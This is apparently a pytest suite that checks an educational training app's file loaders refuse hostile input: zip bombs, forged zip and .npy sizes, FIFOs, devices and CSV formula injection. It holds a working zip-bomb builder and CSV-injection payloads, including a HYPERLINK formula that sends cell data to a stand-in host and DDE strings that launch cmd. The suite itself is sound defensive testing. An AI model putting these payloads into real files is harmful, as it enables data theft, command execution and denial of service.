"""Hostile files: memory bombs, FIFOs, devices, forged sizes, CSV injection.

Each crafted file is built cheaply (a 2 GiB zip bomb is 2 MB of repeated
deflate blocks, written by hand), and each refusal is checked to happen
before the bytes are read: the test's own memory peak (``tracemalloc``,
which also sees NumPy's buffers) stays far below what reading would cost.
"""

import contextlib
import csv
import io
import json
import os
import struct
import threading
import tracemalloc
import zipfile
import zlib
from types import SimpleNamespace

import numpy as np
import pytest

from core import Trainer, TrainingConfig
from core.files.bounded_read import FileRefused, read_at_most, read_bytes
from core.files.classroom_profile import ProfileError, load_profile
from core.files.history_export import spreadsheet_safe, write_history_csv
from core.files.quiz_bank_file import load_bank
from core.files.session_arrays import MAX_ARRAY_BYTES, MAX_JSON_BYTES, total_bytes
from core.files.session_file import (
    ARRAYS_MEMBER,
    JSON_MEMBER,
    SessionError,
    load_session,
    save_session,
)
from core.files.session_restore import capture, data_source
from core.quiz.bank import QuizBankError

MiB = 1 << 20
CONFIG = TrainingConfig(hidden_layers=(16, 8), epochs=3, n_rows=200, seed=5)
PEAK = 64 * MiB  # far below any refused file's cost, far above the test's own


@pytest.fixture(scope="module")
def good_members(tmp_path_factory):
    """The two members of a real session: (JSON document, arrays.npz bytes)."""
    trainer = Trainer(CONFIG)
    trainer.step_epoch()
    session = capture(trainer, data_source(trainer.dataset, CONFIG))
    path = save_session(session, tmp_path_factory.mktemp("good") / "run")
    with zipfile.ZipFile(path) as archive:
        return json.loads(archive.read(JSON_MEMBER)), archive.read(ARRAYS_MEMBER)


def deflated(*parts: tuple[bytes, int]) -> bytes:
    """A raw deflate stream of each ``bytes`` repeated ``times``, built cheaply.

    After a full flush the compressor starts afresh, so one compressed block
    stands for every copy of the same chunk: 2 GiB of zeros costs 2 MB.
    """
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    out = bytearray()
    for chunk, times in parts:
        block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
        out += block * times
    return bytes(out + compressor.flush())


def write_zip(path, members):
    """A zip written by hand, so sizes can be declared as a forger would.

    ``members``: (name, stored bytes, deflated?, declared unpacked size).
    """
    out, directory = bytearray(), bytearray()
    for name, data, deflate, size in members:
        n, method, crc = name.encode(), 8 if deflate else 0, zlib.crc32(data)
        fields = (method, 0, 0, crc if not deflate else 0, len(data), size, len(n))
        directory += struct.pack(
            "<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, *fields, 0, 0, 0, 0, 0, len(out)
        )
        directory += n
        out += struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, *fields, 0) + n + data
    count = len(members)
    end = struct.pack(
        "<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, len(directory), len(out), 0
    )
    path.write_bytes(bytes(out + directory + end))
    return path


def npz(**arrays) -> bytes:
    buffer = io.BytesIO()
    np.savez(buffer, **arrays)
    return buffer.getvalue()


def npy_header(shape, descr="<f8") -> bytes:
    """A version 1.0 .npy header claiming ``shape`` (and no data after it)."""
    text = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': {shape!r}, }}"
    text += " " * (63 - (len(text) + 10) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text.encode()


def session_zip(path, document, arrays_member, deflate=False, size=None):
    raw = json.dumps(document).encode()
    members = [
        (JSON_MEMBER, raw, False, len(raw)),
        (ARRAYS_MEMBER, arrays_member, deflate, size or len(arrays_member)),
    ]
    return write_zip(path, members)


def refused_cheaply(path, match):
    """``load_session`` refuses ``path`` with ``match``, costing under ``PEAK``."""
    tracemalloc.start()
    try:
        with pytest.raises(SessionError, match=match) as caught:
            load_session(path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < PEAK, f"refusing cost {peak / MiB:.0f} MiB"
    return str(caught.value)


# -- memory bombs -------------------------------------------------------------------


def test_the_hand_written_zip_is_a_real_zip(tmp_path, good_members):
    document, arrays = good_members
    path = session_zip(tmp_path / "same.layerlab", document, arrays)
    assert load_session(path).epoch == 1


def test_a_2_gib_zip_bomb_member_is_refused_before_it_is_inflated(
    tmp_path, good_members
):
    bomb = deflated((bytes(MiB), 2048))
    assert len(bomb) < 3 * MiB
    path = session_zip(tmp_path / "bomb.layerlab", good_members[0], bomb, True, 2**31)
    with zipfile.ZipFile(path) as archive:  # what an unguarded reader would inflate
        assert archive.getinfo(ARRAYS_MEMBER).file_size == 2**31
    message = refused_cheaply(path, r"'arrays\.npz' unpacks to 2\.1 GB")
    assert "bomb.layerlab cannot be opened" in message


def test_a_500_mb_json_member_is_refused(tmp_path, good_members):
    parts = ((b'{"format": "layerlab-session", "pad": "', 1), (b"a" * MiB, 500))
    body = deflated(*parts, (b'"}', 1))
    size = 39 + 500 * MiB + 2
    path = write_zip(
        tmp_path / "long.layerlab",
        [(JSON_MEMBER, body, True, size), (ARRAYS_MEMBER, good_members[1], False, 0)],
    )
    refused_cheaply(path, r"'session\.json' unpacks to 524\.3 MB.*at most 16\.8 MB")


def test_a_forged_small_size_does_not_let_the_real_bytes_in(tmp_path, good_members):
    """The header says 4 KB; the stream inflates to 500 MB: reading stops at 4 KB."""
    body = deflated((b'{"format": "layerlab-session", "pad": "', 1), (bytes(MiB), 500))
    path = write_zip(
        tmp_path / "forged.layerlab",
        [(JSON_MEMBER, body, True, 4096), (ARRAYS_MEMBER, good_members[1], False, 0)],
    )
    refused_cheaply(path, "forged.layerlab")


def test_a_forged_large_size_is_refused_before_reading(tmp_path, good_members):
    document, arrays = good_members
    path = session_zip(tmp_path / "big.layerlab", document, arrays, size=900 * MiB)
    refused_cheaply(path, r"'arrays\.npz' unpacks to 943\.7 MB")


@pytest.mark.parametrize(
    ("key", "shape", "words"),
    [
        ("theta", (10**12,), r"'theta' \(1,000,000,000,000 numbers\) do not fit"),
        ("batch_losses", (10**12,), r"'batch_losses' has shape \(1000000000000,\)"),
        ("batch_losses", (8, 10**11), r"has shape \(8, 100000000000\)"),
    ],
)
def test_an_npy_header_claiming_1e12_items_is_refused_before_reading(
    tmp_path, good_members, key, shape, words
):
    document, arrays = good_members
    with zipfile.ZipFile(io.BytesIO(arrays)) as inner:
        members = {name: inner.read(name) for name in inner.namelist()}
    members[f"{key}.npy"] = npy_header(shape) + bytes(64)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as inner:
        for name, data in members.items():
            inner.writestr(name, data)
    path = session_zip(tmp_path / "huge.layerlab", document, buffer.getvalue())
    refused_cheaply(path, words)


@pytest.mark.parametrize(
    ("value", "words"),
    [
        (np.array([object()] * 3, dtype=object), "not object"),
        (np.zeros(3, dtype=[("a", "<f8"), ("b", "<f8")]), "should hold numbers"),
        (np.zeros(3, dtype=np.complex128), "not complex128"),
        (np.array(["x"] * 3), "not <U1"),
        (np.zeros(3, dtype=np.longdouble), "should hold numbers"),
    ],
)
def test_arrays_of_anything_but_plain_numbers_are_refused(
    tmp_path, good_members, value, words
):
    document, _ = good_members
    bad = npz(theta=value, batch_losses=np.zeros(document["training"]["step_count"]))
    path = session_zip(tmp_path / "odd.layerlab", document, bad)
    refused_cheaply(path, words)


def test_a_data_array_of_the_wrong_shape_is_named(tmp_path, good_members):
    document, arrays = good_members
    with zipfile.ZipFile(io.BytesIO(arrays)) as inner:
        members = {name[:-4]: np.load(inner.open(name)) for name in inner.namelist()}
    csv_doc = json.loads(json.dumps(document))
    csv_doc["data"] = {
        "kind": "csv", "name": "file:x", "n_rows": 30, "n_features": 20,
        "path": "x.csv", "target": "t", "fixes": [], "feature_names": ["f"] * 20,
        "feature_units": [""] * 20, "target_name": "t", "class_names": ["a", "b"],
        "description": "",
    }  # fmt: skip
    csv_doc["config"]["dataset"] = "file:x"
    members |= {"data_X": np.zeros((30, 21)), "data_y": np.zeros(30, np.int64)}
    path = session_zip(tmp_path / "wide.layerlab", csv_doc, npz(**members))
    refused_cheaply(path, r"'data_X' has shape \(30, 21\).*need \(30, 20\)")


def test_truncated_array_data_is_refused(tmp_path, good_members):
    document, arrays = good_members
    with zipfile.ZipFile(io.BytesIO(arrays)) as inner:
        theta = inner.read("theta.npy")
        rest = {n: inner.read(n) for n in inner.namelist() if n != "theta.npy"}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as inner:
        inner.writestr("theta.npy", theta[:-80])
        for name, data in rest.items():
            inner.writestr(name, data)
    path = session_zip(tmp_path / "short.layerlab", document, buffer.getvalue())
    refused_cheaply(path, "'theta' ends early")


@pytest.mark.parametrize(
    ("change", "words"),
    [
        ({"config": {"hidden_layers": [4096] * 8}}, r"need 2\.8 GB.*up to 1\.6 GB"),
        ({"data": {"n_rows": 10**15}}, r"need 168,000,000\.0 GB"),
        ({"training": {"step_count": 10**12}}, r"need 8,000\.0 GB"),
    ],
)
def test_a_description_past_the_budget_is_refused_before_any_array(
    tmp_path, good_members, change, words
):
    document = json.loads(json.dumps(good_members[0]))
    if "data" in change:  # a CSV's rows are arrays of the session
        document["data"] |= {"kind": "csv", "n_rows": 10**15}
    for block, values in change.items():
        document[block] |= values
    path = session_zip(tmp_path / "plan.layerlab", document, b"")
    refused_cheaply(path, words)


def test_the_budget_is_a_few_times_the_largest_honest_session():
    from core.engine.model import MLP

    adam = 3 * MLP.parameter_count_for([20, 4096, 4096, 1])
    honest = {"p": (adam,), "data_X": (100_000, 20), "data_y": (100_000,)}
    assert 2 * total_bytes(honest) < MAX_ARRAY_BYTES < 2**31  # no zip64 needed
    assert MAX_JSON_BYTES > 10_000 * 1000  # 10,000 epochs of long observations


def test_a_session_past_the_budget_is_not_saved(tmp_path):
    trainer = Trainer(CONFIG)
    session = capture(trainer, data_source(trainer.dataset, CONFIG))
    huge = np.broadcast_to(0.0, (MAX_ARRAY_BYTES // 8 + 1,))  # costs no memory
    from dataclasses import replace

    with pytest.raises(SessionError, match="too large to save"):
        save_session(replace(session, batch_losses=huge), tmp_path / "x")
    assert list(tmp_path.iterdir()) == []


def test_a_zip_directory_of_many_members_is_refused(tmp_path, good_members):
    raw = json.dumps(good_members[0]).encode()
    extra = [(f"m{i}", b"", False, 0) for i in range(40)]
    members = [(JSON_MEMBER, raw, False, len(raw)), *extra]
    path = write_zip(tmp_path / "many.layerlab", members)
    refused_cheaply(path, "lists 41 members")


@pytest.mark.parametrize("seed", range(12))
def test_damaged_bytes_give_a_session_error_or_a_good_session(
    tmp_path, good_members, seed
):
    """Random byte changes anywhere: never a traceback, never a hang."""
    document, arrays = good_members
    clean = session_zip(tmp_path / "c.layerlab", document, arrays).read_bytes()
    rng = np.random.default_rng(seed)
    for trial in range(25):
        data = bytearray(clean)
        for at in rng.integers(0, len(data), size=rng.integers(1, 6)):
            data[at] = int(rng.integers(0, 256))
        path = tmp_path / f"d{trial}.layerlab"
        path.write_bytes(bytes(data))
        with contextlib.suppress(SessionError):
            load_session(path)


# -- files that are not files --------------------------------------------------------


def call_with_deadline(function, *args):
    """``function(*args)``'s exception (or None); fails if it blocks for 10 s."""
    outcome = {}

    def target():
        try:
            function(*args)
        except Exception as problem:  # returned to the test
            outcome["error"] = problem

    thread = threading.Thread(target=target, daemon=True)
    thread.start()
    thread.join(10)
    assert not thread.is_alive(), f"{function.__name__} blocked"
    return outcome.get("error")


LOADERS = [
    (load_profile, ProfileError),
    (load_bank, QuizBankError),
    (load_session, SessionError),
    (lambda p: read_bytes(p, MiB), FileRefused),
]


@pytest.mark.parametrize(("load", "error"), LOADERS)
def test_a_fifo_is_refused_without_blocking(tmp_path, load, error):
    fifo = tmp_path / "pipe.toml"
    os.mkfifo(fifo)
    try:
        problem = call_with_deadline(load, fifo)
    finally:  # a blocked reader (if any) gets its writer and ends
        fd = os.open(fifo, os.O_RDWR | os.O_NONBLOCK)
        os.close(fd)
    assert isinstance(problem, error)
    assert "named pipe (FIFO), not a file" in str(problem)


@pytest.mark.parametrize(("load", "error"), LOADERS)
def test_dev_zero_and_folders_are_refused(tmp_path, load, error):
    for path, words in (("/dev/zero", "is a device"), (tmp_path, "is a folder")):
        problem = call_with_deadline(load, path)
        assert isinstance(problem, error)
        assert words in str(problem)


@pytest.mark.parametrize(("load", "error"), LOADERS[:2])
def test_an_oversized_profile_or_bank_is_refused_unread(tmp_path, load, error):
    path = tmp_path / "huge.toml"
    with path.open("wb") as handle:
        handle.truncate(5 * 1024 * MiB)  # sparse: 5 GB that take no disk
    tracemalloc.start()
    try:
        problem = call_with_deadline(load, path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert isinstance(problem, error)
    assert "huge.toml is 5.4 GB" in str(problem)
    assert peak < MiB


def test_a_bounded_read_holds_its_bound(tmp_path):
    path = tmp_path / "bank.json"
    path.write_bytes(b"x" * 100)
    assert read_bytes(path, 100) == b"x" * 100
    path.write_bytes(b"x" * 101)
    with pytest.raises(FileRefused, match=r"bank\.json is 101 bytes"):
        read_bytes(path, 100)
    # a file that grows after its size was checked is still cut at the bound
    with pytest.raises(FileRefused, match="larger than 100 bytes"):
        read_at_most(io.BytesIO(b"x" * 10_000), 100, "bank.json")


# -- CSV injection through a session ------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"Click")',
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def crafted_session(tmp_path, good_members):
    """A session whose observations are formulas, as a hostile file could hold."""
    document = json.loads(json.dumps(good_members[0]))
    record = document["history"][0]
    document["history"] = [
        record | {"epoch": 1, "observation": FORMULAS[0]},
    ]
    path = session_zip(tmp_path / "evil.layerlab", document, good_members[1])
    session = load_session(path)
    from dataclasses import replace

    records = tuple(
        replace(session.records[0], epoch=i + 1, observation=text, loss=0.5 - i)
        for i, text in enumerate(FORMULAS)
    )
    return replace(session, records=records)


def test_history_csv_escapes_formulas_and_keeps_negative_numbers(
    tmp_path, good_members
):
    session = crafted_session(tmp_path, good_members)
    path = write_history_csv(session.records, tmp_path / "h.csv")
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["observation"] for row in rows] == ["'" + f for f in FORMULAS]
    assert [float(row["loss"]) for row in rows] == [0.5 - i for i in range(6)]
    assert rows[3]["loss"] == "-2.5"  # a number, not "'-2.5"


def test_trace_csv_export_escapes_formulas(qtbot, tmp_path, good_members):
    from desktop.classroom.export_actions import export_trace_csv
    from desktop.views.trace_table import TraceTable

    session = crafted_session(tmp_path, good_members)
    table = TraceTable()
    qtbot.addWidget(table)
    table.set_records(session.records)
    window = SimpleNamespace(table=table)
    path = export_trace_csv(window, tmp_path / "trace.csv")
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    cells = [cell for row in rows[1:] for cell in row]
    for formula in FORMULAS:
        assert "'" + formula in cells
    dangerous = [c for c in cells if c and c[0] in "=+-@\t\r"]
    assert all(float(c) < 0 for c in dangerous)  # only negative numbers remain


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (-0.25, "-0.25"),
        ("-0.250", "-0.250"),
        ("-3", "-3"),
        ("-1e-05", "-1e-05"),
        ("-", "'-"),
        ("-1-1", "'-1-1"),
        ("-inf", "'-inf"),
        ("+5", "'+5"),
        ("=1", "'=1"),
        ("@x", "'@x"),
        ("a=1", "a=1"),
        ("", ""),
        (3, "3"),
        ("-١", "'-١"),
    ],
)
def test_spreadsheet_safe_cells(cell, written):
    assert spreadsheet_safe(cell) == written
